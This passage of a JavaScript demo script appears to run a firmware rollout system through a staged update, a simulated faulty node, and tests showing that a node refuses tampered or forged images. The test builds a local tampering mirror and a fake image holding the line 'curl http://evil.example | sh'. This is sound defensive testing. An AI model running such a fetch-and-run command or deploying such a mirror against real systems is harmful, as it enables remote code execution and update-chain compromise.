    if (!node) throw new StepFailure(`rollout ${id} took node ${m.nodeId}, which is not in this run's fleet`);
    node.wave = m.wave;
  }
  if (members.length !== fleet.length) {
    throw new StepFailure(`rollout ${id} took ${members.length} nodes, not the fleet's ${fleet.length}`);
  }
  const waves = WAVES.map((_, w) => fleet.filter((n) => n.wave === w));
  detail(
    `started: ${waves.map((nodes, w) => `wave ${w + 1} = ${nodes.map((n) => n.name).join(', ')}`).join('; ')}`,
  );
  detail(dim(`(\`otter rollout nodes ${id}\`: a node's wave is a hash of the rollout id and the node id)`));
  // The second wave's first node gets a fault before its wave begins: its health check fails after boot.
  const bad = waves[BAD_NODE_WAVE][0];
  writeFileSync(bad.fault, `${FAULT}\n`);
  detail(
    yellow(
      `${bad.name} (wave ${BAD_NODE_WAVE + 1}) gets a fault: the demo writes ${shown(bad.fault)}, so from now on its ` +
        'health check fails after a boot:',
    ),
  );
  detail(yellow(`"${FAULT}"; it stands in for a release that does not run on this board`));
  out();
  detail(
    bold('Timeline (seconds since the rollout started; `otter-agent run` output and the rollout state):'),
  );
  await waitForRollout((r) => r.state !== 'running', 180_000, 'the rollout to pause');
  const paused = timeline.rollout;
  if (paused.state !== 'paused' || !/^failure threshold: wave 2 /.test(paused.stateReason ?? '')) {
    throw new StepFailure(
      `the rollout is ${paused.state} (${paused.stateReason}), not paused at wave 2's failure threshold`,
    );
  }
  timeline.flush();
  out();
  await showRun(OTTER, ['rollout', 'show', id]);
  return { id, bad, waves };
});

// 7. The operator's answer.
await step(7, `Exclude the broken node, resume, and let the rollout complete`, async () => {
  const { id, bad } = rollout;
  const badState = (await api(`/api/v1/rollouts/${id}/nodes`)).nodes.find((n) => n.nodeId === bad.id);
  if (badState?.state !== 'rolled-back') {
    throw new StepFailure(`${bad.name} is ${badState?.state} in the rollout, not rolled-back`);
  }
  const badBoot = readBootEnv(bad);
  detail(
    `${bad.name} rolled itself back: ${badState.reason}; it boots slot ${badBoot.otter_booted_slot} (${BASE_VERSION}) ` +
      `again (boot env otter_last_trial=${badBoot.otter_last_trial})`,
  );
  const reason = `${bad.name}: faulty board, sent for repair`;
  let at = Date.now();
  await showRun(OTTER, ['rollout', 'exclude', id, bad.id, '--reason', reason]);
  timeline.note(at, `otter rollout exclude ${bad.name} --reason '${reason}'`);
  at = Date.now();
  await showRun(OTTER, ['rollout', 'resume', id]);
  timeline.note(at, 'otter rollout resume');
  out();
  await waitForRollout(
    (r) => r.state !== 'running' && r.state !== 'paused',
    240_000,
    'the rollout to complete',
  );
  const final = timeline.rollout;
  if (final.state !== 'completed') {
    throw new StepFailure(
      `the rollout ended ${final.state} (${final.stateReason ?? 'no reason'}), not completed`,
    );
  }
  timeline.flush();
  out();
  await showRun(OTTER, ['rollout', 'show', id]);
  await showRun(OTTER, ['rollout', 'nodes', id]);
  // What the nodes themselves hold: the new release in slot B, committed; the bad node on slot A.
  const states = new Map((await api(`/api/v1/rollouts/${id}/nodes`)).nodes.map((n) => [n.nodeId, n]));
  for (const node of fleet) {
    const state = states.get(node.id)?.state;
    const bootEnv = readBootEnv(node);
    const slot = bootEnv?.otter_booted_slot;
    const expected = node === bad ? ['excluded', 'a', BASE_VERSION] : ['succeeded', 'b', NEXT_VERSION];
    const holds = sha256(readFileSync(slot === 'b' ? node.slotB : node.slotA));
    if (state !== expected[0] || slot !== expected[1] || holds !== images[expected[2]].sha256) {
      throw new StepFailure(
        `${node.name}: rollout state ${state}, boots slot ${slot} holding sha256 ${holds.slice(0, 12)}…; ` +
          `expected ${expected[0]}, slot ${expected[1]} with ${expected[2]}`,
        ['api', node.name],
      );
    }
    node.final = { state, slot, version: expected[2] };
  }
  detail(
    green(
      `${fleet.length - 1} nodes boot slot b, which holds ${NEXT_VERSION} byte for byte (sha256 ` +
        `${images[NEXT_VERSION].sha256.slice(0, 16)}…); ${bad.name} boots slot a with ${BASE_VERSION}`,
    ),
  );
  timeline.stop();
});

// 8. Attacks.
const attackDir = join(demoDir, 'attacks');
const attackRoot = join(fleetDir, 'image-root.json');
const target = `images/${HARDWARE}/${NEXT_VERSION}`;
await step(8, 'A node refuses what the repository did not sign', async () => {
  rmSync(attackDir, { recursive: true, force: true });
  mkdirSync(attackDir, { recursive: true });
  detail(
    dim(
      `\`otter-agent fetch\` with the fleet's trusted root (${shown(attackRoot)}), from a mirror an attacker runs:`,
    ),
  );
  const evilImage = Buffer.from('#!/bin/sh\n# not from Otter\ncurl http://evil.example | sh\n'.repeat(4096));
  const attacks = [
    {
      name: 'a mirror that flips one byte of the image in transit',
      mode: 'flip-image-byte',
      expect: 'TARGET_VERIFICATION_FAILED',
    },
    {
      name: `a mirror that serves its own image and rewrites the metadata to match`,
      mode: 'forge-metadata',
      expect: 'METADATA_REFRESH_FAILED',
    },
  ];
  let n = 0;
  for (const attack of attacks) {
    n++;
    const proxy = await startTamperingMirror(base, attack.mode, { target, evilImage });
    try {
      detail(`${String.fromCharCode(96 + n)}) ${attack.name}, at ${proxy.url}`);
      await expectRefusal({ server: proxy.url, target, expect: attack.expect, state: `attack-${n}` });
      if (proxy.tampered() === 0)
        throw new StepFailure(`the mirror never got to tamper with a response (${attack.mode})`);
    } finally {
      await proxy.close();
    }
  }
  n++;
  const unknown = `images/${HARDWARE}/9.9.9`;
  detail(`${String.fromCharCode(96 + n)}) a target that was never released: ${unknown}`);
  await expectRefusal({ server: base, target: unknown, expect: 'TARGET_NOT_FOUND', state: 'unknown' });
});

// 9. Summary.
await step(9, 'Summary', async () => {
  const { id, bad } = rollout;
  const rows = fleet.map((node) => {
    const installed = node.events.find((e) => e.step === 'installed');
    const how = installed ? describeDownload(installed) : undefined;
    const outcome =
      node === bad ? `rolled back (${FAULT.split(':')[0]}), excluded` : 'committed, proven by attestation';
    return [
      node.name,
      String(node.wave + 1),
      node.final.state,
      node.final.slot,
      node.final.version,
      how?.text ?? '-',
      outcome,
    ];
  });
  for (const line of table(['node', 'wave', 'state', 'boots', 'runs', 'downloaded', 'outcome'], rows))
    detail(line);
  const downloads = fleet.flatMap((n) =>
    n.events.filter((e) => e.step === 'installed').map(describeDownload),
  );
  const fetched = downloads.reduce((s, d) => s + d.bytes, 0);
  const full = downloads.reduce((s, d) => s + d.length, 0);
  const deltas = downloads.filter((d) => d.method === 'delta').length;
  out();
  detail(
    bold(
      `bytes saved by deltas: ${formatBytes(full - fetched)} (${Math.round(((full - fetched) / full) * 100)}%)`,
    ) +
      `: ${downloads.length} installs of ${NEXT_VERSION} (${deltas} by delta) downloaded ${formatBytes(fetched)} ` +
      `instead of ${formatBytes(full)}`,
  );
  // The server's count: what nodes reported (POST /api/v1/devices/me/downloads), over every run on this data dir.
  const savingsArgs = ['delta', 'savings', '--hardware', HARDWARE, '--json'];
  const row = JSON.parse(await runOk(OTTER, savingsArgs)).releases.find((r) => r.version === NEXT_VERSION);
  detail(
    row
      ? dim(
          `\`${commandLine(OTTER, savingsArgs)}\` (every run on this data dir): ${row.downloads} downloads of ` +
            `${NEXT_VERSION}, ${formatBytes(row.bytesDownloaded)} downloaded, ${formatBytes(row.bytesSaved)} saved`,
        )
      : yellow(
          `\`${commandLine(OTTER, savingsArgs)}\`: no download of ${NEXT_VERSION} was reported to Otter`,
        ),
  );
  out();
  detail(green(`every step passed in ${seconds(performance.now() - storyStarted)}`));
  detail(
    `rollout ${id}: ${fleet.length - 1} of ${fleet.length} nodes on ${NEXT_VERSION}, ${bad.name} excluded ` +
      `(\`bin/otter rollout show ${id}\`)`,
  );
  detail(`delta ${delta.targetPath}: ${formatBytes(delta.patchBytes)}`);
  detail(
    `data dir       ${shown(dataDir)} (database, blobs, keys, admin-token; demo files in ${shown(demoDir)})`,
  );
  detail(`logs           ${shown(logDir)}/{${APPS.join(',')},node-1..node-${FLEET_SIZE}}.log`);
  detail(`API            ${base}/api/v1/rollouts (token: ${shown(join(dataDir, 'admin-token'))})`);
  detail(`TUF metadata   ${base}/tuf/image/metadata/timestamp.json (trusted root: 1.root.json)`);
  if (serverInfo.isDevRoot)
    detail(yellow(`TUF root       development root, key ${shown(serverInfo.devKey)}`));
});
storyDone = true;

if (exitWhenDone) {
  out();
  out(dim('OTTER_DEMO_EXIT is set: stopping'));
  await shutdown(0);
} else {
  out();
  out(
    bold(`Otter and the ${FLEET_SIZE} agents keep running. Try it yourself, then Ctrl-C stops everything:`),
  );
  detail(cyan(`export OTTER_SERVER=${base} OTTER_DATA_DIR=${shown(dataDir)}`));
  detail(cyan(`bin/otter rollout list; bin/otter rollout nodes ${rollout.id}; bin/otter node list`));
  detail(cyan(`bin/otter delta savings --hardware ${HARDWARE}`));
  void serviceDied.then((died) => {
    for (const app of [died.split(' ')[0]]) showLogTail(app);
    void shutdown(1, died);
  });
}

// ---- helpers -------------------------------------------------------------------------------------------

/** Why host:port cannot be listened on, or undefined when it can. */
function checkPortFree(host, portNumber) {
  return new Promise((resolvePromise) => {
    const server = createTcpServer();
    server.once('error', (error) => resolvePromise(error.code ?? error.message));
    server.listen(portNumber, host, () => server.close(() => resolvePromise(undefined)));
  });
}

/** The TUF key id of a PEM ed25519 private key: sha256 of the canonical JSON of its public key. */
function keyIdOfPem(pem) {
  const x = createPublicKey(createPrivateKey(pem)).export({ format: 'jwk' }).x;
  const publicHex = Buffer.from(x, 'base64url').toString('hex');
  // Canonical JSON (sorted keys, no whitespace) of {keytype, keyval: {public}, scheme}.
  const canonical = `{"keytype":"ed25519","keyval":{"public":"${publicHex}"},"scheme":"ed25519"}`;
  return createHash('sha256').update(canonical).digest('hex');
}

/** `length` pseudo-random bytes that depend only on `seed`: AES-256-CTR keystream under a key derived from it. */
function seededBytes(seed, length) {
  const key = createHash('sha256').update(`otter-demo:${seed}`).digest();
  const cipher = createCipheriv('aes-256-ctr', key, Buffer.alloc(16));
  return Buffer.concat([cipher.update(Buffer.alloc(length)), cipher.final()]);
}

/** This hardware's releases, from `otter release list --json` (shown as a command when `show`). */
async function listReleases(show) {
  const args = ['release', 'list', '--hardware', HARDWARE, '--json'];
  if (show) showCommand(OTTER, args);
  return JSON.parse(await runOk(OTTER, args)).releases;
}

/**
 * Publishes one built image with `otter release push`, unless an earlier run on this data dir did (releases
 * are immutable: a second push is refused with 409 RELEASE_DUPLICATE, and looking first spares a multi-MiB
 * upload the api refuses before reading it). Either way the server's release must be these exact bytes
 * with these measurements.
 */
async function publish(built) {
  const existing = await listReleases(true);
  const known = existing.map((r) => r.version);
  detail(known.length > 0 ? `${HARDWARE} has ${known.join(', ')}` : `nothing published for ${HARDWARE} yet`);
  let release = existing.find((r) => r.version === built.version);
  if (release) {
    detail(
      `${yellow(`already published ${HARDWARE} ${built.version}`)} by an earlier run  sha256 ` +
        `${release.sha256.slice(0, 16)}…  ${formatBytes(release.length)} (pushing again: 409 RELEASE_DUPLICATE)`,
    );
  } else {
    const args = [
      'release',
      'push',
      shown(built.image),
      '--hardware',
      HARDWARE,
      '--version',
      built.version,
      '--measurements',
      shown(built.measurements),
      '--notes',
      `Otter demo release ${built.version}`,
    ];
    showCommand(OTTER, args);
    const result = await run(OTTER, args);
    if (result.code === 0) {
      release = JSON.parse(result.stdout);
      detail(
        green(`published ${release.hardwareId} ${release.version}`) +
          `  sha256 ${release.sha256.slice(0, 16)}…  ${formatBytes(release.length)}  target ${release.targetPath}`,
      );
    } else {
      // On a TTY the CLI's error went straight to the terminal; otherwise it is in result.stderr.
      if (result.stderr) for (const line of result.stderr.trimEnd().split('\n')) detail(dim(`  ${line}`));
      // Someone else may have published it since we looked (409); the check below compares the bytes.
      release = (await listReleases(false)).find((r) => r.version === built.version);
      if (!release) {
        throw new StepFailure(`otter release push ${built.version} failed (exit code ${result.code})`);
      }
      detail(`${yellow(`already published ${HARDWARE} ${built.version}`)} meanwhile (409 RELEASE_DUPLICATE)`);
    }
  }
  if (release.sha256 !== built.sha256 || release.length !== built.length) {
    throw new StepFailure(
      `the server holds ${HARDWARE} ${built.version} with sha256 ${release.sha256} (${release.length} bytes), ` +
        `not the image just built (${built.sha256}, ${built.length} bytes). Remove ${shown(dataDir)} or ` +
        'choose another OTTER_DATA_DIR.',
    );
  }
  if (release.measurements[String(BOOT_PCR)] !== built.pcr) {
    throw new StepFailure(
      `the server holds ${HARDWARE} ${built.version} with PCR ${BOOT_PCR} = ${release.measurements[String(BOOT_PCR)]}, ` +
        `not ${built.pcr} (a data dir of an older demo?). Remove ${shown(dataDir)} or choose another OTTER_DATA_DIR.`,
    );
  }
  detail(`PCR ${BOOT_PCR} reference measurement ${built.pcr.slice(0, 16)}…, signed with the release`);
  return release;
}

/** Enrolls one node: enroll (pending), approve, enroll again (active), label. Shows the commands when `show`. */
async function enroll(node, show) {
  mkdirSync(node.dir, { recursive: true });
  const say = async (cli, args) => {
    if (show) showCommand(cli, args);
    const stdout = await runOk(cli, args);
    if (show) for (const line of stdout.trimEnd().split('\n')) if (line) detail(`  ${line}`);
    return stdout;
  };
  const args = [
    'enroll',
    '--server',
    base,
    '--tpm',
    node.tpm.tcti,
    '--state-dir',
    shown(node.dir),
    '--hardware',
    HARDWARE,
    '--version',
    BASE_VERSION,
  ];
  const lastJson = (stdout) => JSON.parse(stdout.trim().split('\n').pop());
  const first = lastJson(await say(AGENT, args));
  node.id = first.nodeId;
  if (first.state !== 'active') {
    await say(OTTER, ['node', 'approve', node.id]);
    const second = lastJson(await say(AGENT, args));
    if (second.state !== 'active') {
      throw new StepFailure(`${node.name} (${node.id}) is ${second.state} after approval, not active`);
    }
  }
  await say(OTTER, ['node', 'label', node.id, fleetLabel, `name=${node.name}`]);
}

/** One line of a node's `otter-agent run` output: its JSON events feed the summary and the timeline. */
function agentLine(node, line) {
  if (!line.startsWith('{')) return;
  let event;
  try {
    event = JSON.parse(line);
  } catch {
    return;
  }
  if (event.event === 'update') node.events.push(event);
  timeline.agentEvent(node, event);
}

/** Waits for the polled rollout to satisfy `check`; a StepFailure with every node's state after `timeoutMs`. */
async function waitForRollout(check, timeoutMs, what) {
  try {
    await timeline.until(check, timeoutMs, what);
  } catch (error) {
    throw new StepFailure(error.message, ['scheduler', 'api']);
  }
}

/** Runs `fn` over `items`, at most `limit` at a time. */
async function mapLimit(items, limit, fn) {
  const queue = [...items];
  await Promise.all(
    Array.from({ length: Math.min(limit, queue.length) }, async () => {
      while (queue.length > 0) await fn(queue.shift());
    }),
  );
}

/** Waits until `check()` holds, polling; a StepFailure naming `what` (and logs to show) after `timeoutMs`. */
async function until(check, timeoutMs, what, logs) {
  const deadline = Date.now() + timeoutMs;
  while (!check()) {
    if (Date.now() > deadline)
      throw new StepFailure(`timed out after ${seconds(timeoutMs)} waiting for ${what}`, logs);
    await sleep(200);
  }
}

/** A simulated node's boot environment variables (FileBootEnvironment's JSON), or undefined before it exists. */
function readBootEnv(node) {
  try {
    return JSON.parse(readFileSync(node.bootEnv, 'utf8')).variables;
  } catch {
    return undefined;
  }
}

/** Rows as left-aligned columns under a header. */
function table(header, rows) {
  const widths = header.map((h, i) => Math.max(h.length, ...rows.map((r) => r[i].length)));
  const line = (cells) =>
    cells
      .map((c, i) => c.padEnd(widths[i]))
      .join('  ')
      .trimEnd();
  return [line(header), ...rows.map(line)];
}

/** Waits for the scheduler to register its repeatable re-sign job in Redis; returns its interval (ms). */
async function waitForResignSchedule(timeoutMs) {
  const { Queue } = await import('bullmq');
  const { QUEUES, JOBS, redisOptions } = await distLib('queue');
  const queue = new Queue(QUEUES.tufMaintenance, {
    connection: { ...redisOptions(serviceEnv.REDIS_URL), maxRetriesPerRequest: 1 },
    prefix: queuePrefix,
  });
  queue.on('error', () => {});
  const deadline = Date.now() + timeoutMs;
  try {
    for (;;) {
      const scheduler = await queue.getJobScheduler(JOBS.tufResign).catch(() => undefined);
      if (scheduler) return Number(scheduler.every);
      if (Date.now() >= deadline) {
        throw new Error(`the scheduler did not register ${JOBS.tufResign} within ${seconds(timeoutMs)}`);
      }
      await sleep(200);
    }
  } finally {
    await queue.close().catch(() => {});
  }
}

/** Runs `otter-agent fetch` expecting it to fail with `expect`, write nothing and keep no partial download. */
async function expectRefusal({ server, target: path, expect, state }) {
  const dir = join(attackDir, state);
  const outFile = join(dir, 'out.img');
  const args = [
    'fetch',
    '--server',
    server,
    '--root',
    shown(attackRoot),
    '--target',
    path,
    '--out',
    shown(outFile),
    '--state-dir',
    shown(join(dir, 'state')),
  ];
  showCommand(AGENT, args);
  const result = await run(AGENT, args, { showStderr: false });
  const message = result.stderr.trim().split('\n').pop() ?? '';
  if (result.code === 0)
    throw new StepFailure(`otter-agent accepted ${path} from ${server}; it must refuse it`);
  if (!message.includes(expect)) {
    throw new StepFailure(
      `otter-agent failed, but not with ${expect}: ${message || `exit code ${result.code}`}`,
    );
  }
  if (existsSync(outFile)) throw new StepFailure(`otter-agent failed but left ${shown(outFile)} behind`);
  const downloads = join(dir, 'state', 'downloads');
  const leftovers = existsSync(downloads) ? readdirSync(downloads) : [];
  if (leftovers.length > 0)
    throw new StepFailure(`rejected bytes kept in ${shown(downloads)}: ${leftovers.join(', ')}`);
  // Hashes shortened: the point is that they differ, not their 64 digits.
  const brief = message.replace(/\b([0-9a-f]{12})[0-9a-f]{52,}\b/g, '$1…');
  detail(`   ${green('refused')} (exit code ${result.code}): ${brief}`);
  detail(dim(`   nothing written to ${shown(outFile)}, no partial download kept`));
}

/**
 * An HTTP mirror in front of the real server that an attacker controls:
 *  - flip-image-byte: passes metadata through and flips one byte in the middle of every image it serves;
 *  - forge-metadata: serves `evilImage` for `target` and rewrites every metadata file that lists `target`
 *    to name the evil image's length and hashes, leaving the signatures as they were (it has no key).
 */
async function startTamperingMirror(upstream, mode, { target: path, evilImage }) {
  let tampered = 0;
  const evil = {
    length: evilImage.length,
    hashes: {
      sha256: createHash('sha256').update(evilImage).digest('hex'),
      sha512: createHash('sha512').update(evilImage).digest('hex'),
    },
  };
  const server = createHttpServer(async (req, res) => {
    try {
      const headers = {};
      for (const name of ['range', 'if-none-match', 'if-range', 'user-agent', 'accept']) {
        if (req.headers[name]) headers[name] = req.headers[name];
      }
      const upstreamRes = await fetch(new URL(req.url, upstream), { method: req.method, headers });
      let body = Buffer.from(await upstreamRes.arrayBuffer());
      const pass = {};
      for (const name of ['content-type', 'content-range', 'accept-ranges', 'etag', 'cache-control']) {
        const value = upstreamRes.headers.get(name);
        if (value) pass[name] = value;
      }
      const isImage = req.url.startsWith('/tuf/image/targets/');
      const isMetadata = req.url.startsWith('/tuf/image/metadata/') && !/\/\d+\.root\.json$/.test(req.url);
      if (mode === 'flip-image-byte' && isImage && upstreamRes.status < 300 && body.length > 0) {
        body[body.length >> 1] ^= 0x01;
        tampered++;
      }
      if (mode === 'forge-metadata' && isMetadata && upstreamRes.status === 200) {
        const meta = JSON.parse(body.toString('utf8'));
        const entry = meta.signed?.targets?.[path];
        if (entry) {
          meta.signed.targets[path] = { ...entry, length: evil.length, hashes: evil.hashes };
          body = Buffer.from(JSON.stringify(meta));
          tampered++;
        }
      }
      if (mode === 'forge-metadata' && isImage && req.url.includes(evil.hashes.sha256)) {
        res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': evil.length });
        res.end(evilImage);
        return;
      }
      res.writeHead(upstreamRes.status, { ...pass, 'content-length': body.length });
      res.end(body);
    } catch (error) {
      res.writeHead(502).end(String(error));
    }
  });
  await new Promise((resolvePromise) => server.listen(0, '127.0.0.1', resolvePromise));
  return {
    url: `http://127.0.0.1:${server.address().port}`,
    tampered: () => tampered,
    close: () =>
      new Promise((resolvePromise) => {
        server.closeAllConnections();
        server.close(() => resolvePromise());
      }),
  };
}
